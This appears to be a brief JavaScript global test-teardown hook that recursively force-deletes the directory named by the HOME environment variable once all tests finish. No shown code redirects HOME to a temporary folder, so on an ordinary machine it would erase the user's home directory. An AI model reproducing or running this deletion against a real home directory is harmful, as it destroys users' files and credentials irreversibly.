import { rmSync } from 'node:fs';

/** After all tests. */
export default function () {
  rmSync(process.env.HOME, { recursive: true, force: true });
}
